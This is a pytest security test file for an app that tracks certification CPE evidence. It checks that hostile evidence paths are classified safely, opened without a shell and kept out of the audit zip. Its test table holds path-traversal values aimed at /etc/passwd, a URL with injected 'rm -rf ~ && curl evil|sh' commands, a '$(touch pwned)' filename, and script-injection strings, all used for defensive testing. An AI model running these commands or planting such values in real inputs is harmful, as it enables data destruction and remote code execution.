"""Evidence paths are reported for what they are, opened without a shell, and packed without escaping.

tests/ledger/test_evidence.py and tests/cli/test_audit_pack.py prove the common cases; here every
hostile entry goes through `classify`, the app's opener and the audit pack together.
"""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from cpetui.ledger.evidence import classify
from tests.ui.conftest import SIZE, make_app, settle

# evidence as written → (kind classify must give, words its reason must contain)
ENTRIES: dict[str, tuple[str, str]] = {
    "evidence/cert.pdf": ("file", ""),
    "../../etc/passwd": ("outside", "'..'"),
    "evidence/../../outside.txt": ("outside", "'..'"),
    "/etc/passwd": ("outside", "absolute"),
    "evidence/link-out.pdf": ("outside", "link"),
    "file:///etc/passwd": ("outside", "absolute"),
    "ssh://host/etc/passwd": ("outside", "'ssh:'"),
    "javascript://alert(1)": ("outside", "'javascript:'"),
    "https://x.example/c?id=1;rm -rf ~ && curl evil|sh `id` $(id)": ("url", ""),
    "http://x.example/'\"><script>": ("url", ""),
    "evidence/gone.pdf": ("missing", "no file"),
    "--help": ("missing", "no file"),
    "-rf": ("missing", "no file"),
    "$(touch pwned).pdf": ("missing", "no file"),
    "a\x00b.pdf": ("missing", "not a valid file path"),
    "   ": ("missing", "empty"),
    "x" * 5000: ("missing", ""),
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    root = tmp_path / "cpe"
    (root / "evidence").mkdir(parents=True)
    (root / "evidence" / "cert.pdf").write_bytes(b"%PDF certificate")
    (tmp_path / "outside.txt").write_text("not for the auditor")
    os.symlink(tmp_path / "outside.txt", root / "evidence" / "link-out.pdf")
    return root


def test_each_entry_is_classified_for_what_it_is(folder: Path, cases) -> None:
    cases("evidence paths", len(ENTRIES))
    ledger = str(folder / "cissp.toml")
    for entry, (kind, words) in ENTRIES.items():
        ref = classify(ledger, entry)
        assert ref.kind == kind, f"{entry[:60]!r}: {ref}"
        assert words in ref.reason, f"{entry[:60]!r}: {ref.reason}"
    assert not (folder / "pwned").exists() and not (Path.cwd() / "pwned").exists()


def ledger_text(entries: list[str]) -> str:
    from tests.robustness.hostile import toml_string

    evidence = ", ".join(toml_string(e) for e in entries)
    return (
        '[cycle]\nprogram = "isc2"\ncredential = "CISSP"\nstart = 2024-07-01\n\n[[activity]]\n'
        'id = "talk"\ndate = 2024-08-01\ntitle = "Talk"\ntype = "education"\ngroup = "A"\nhours = 1\n'
        f"evidence = [{evidence}]\n"
    )


async def test_the_app_opens_evidence_with_an_argv_never_a_shell_and_not_outside_the_folder(
    folder: Path, monkeypatch: pytest.MonkeyPatch, cases
) -> None:
    cases("evidence paths", len(ENTRIES))
    entries = [e for e in ENTRIES if "\x00" not in e]  # TOML strings cannot hold NUL
    (folder / "cissp.toml").write_text(ledger_text(entries), encoding="utf-8")
    calls: list[tuple[tuple[Any, ...], dict[str, Any]]] = []

    def record(*args: Any, **kwargs: Any) -> None:
        calls.append((args, kwargs))

    monkeypatch.setattr(subprocess, "Popen", record)
    monkeypatch.setattr(subprocess, "run", record)
    monkeypatch.setattr(os, "system", record)
    monkeypatch.setenv("CPETUI_OPENER", "my-opener --new-window")
    app = make_app(folder / "cissp.toml")
    notes: list[str] = []
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        notify = app.notify
        app.notify = lambda message, *a, **k: (notes.append(str(message)), notify(message, *a, **k))
        await pilot.press("o")
        await settle(pilot)
        await pilot.press("E")  # the editor too: an argv list
        await settle(pilot)
    for args, kwargs in calls:
        argv = args[0] if args else kwargs.get("args")
        assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), argv
        assert kwargs.get("shell") is not True
    opened = [args[0][-1] for args, _kw in calls if args[0][0] == "my-opener"]
    assert opened[0] == str(folder / "evidence" / "cert.pdf")
    urls = [e for e, (kind, _w) in ENTRIES.items() if kind == "url"]
    assert opened[1:] == urls  # handed over whole, as one argument
    outside = [e for e, (kind, _w) in ENTRIES.items() if kind == "outside"]
    for entry in outside:
        assert any(entry in n and "outside" in n for n in notes), f"{entry}: not reported as outside"
    joined = "\n".join(notes)
    assert "gone.pdf" in joined and "not found" in joined.lower()


def tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_the_audit_pack_writes_only_its_zip_and_names_every_link_out(folder: Path, tmp_path: Path,
                                                                      cases) -> None:
    cases("evidence paths", len(ENTRIES) + 1)
    # a whole folder too, with the link inside (a 5,000-character name would only drown the output)
    entries = [e for e in ENTRIES if "\x00" not in e and len(e) < 300] + ["evidence"]
    (folder / "cissp.toml").write_text(ledger_text(entries), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    before = tree(tmp_path)
    proc = subprocess.run(
        [sys.executable, "-m", "cpetui", "audit-pack", str(folder / "cissp.toml"),
         "--output", str(out / "pack.zip"), "--as-of", "2026-11-22", "--allow-missing"],
        capture_output=True, text=True, timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert tree(tmp_path) - before == {"out/pack.zip"}  # nothing else written anywhere
    with zipfile.ZipFile(out / "pack.zip") as zf:
        names = zf.namelist()
        manifest = zf.read("manifest.csv").decode()
    for name in names:
        assert not name.startswith("/") and ".." not in name.split("/"), name
    assert not any("passwd" in n or "outside" in n for n in names)
    assert "evidence/cert.pdf" in names
    # The link out is named twice: as its own entry and where the folder entry met it.
    said = proc.stdout
    assert said.count("link-out.pdf") >= 2, said
    assert manifest.count("link-out.pdf") >= 2, manifest
    for entry, (kind, _w) in ENTRIES.items():
        if kind == "outside":
            assert entry in said, f"{entry}: packed or skipped without saying so"
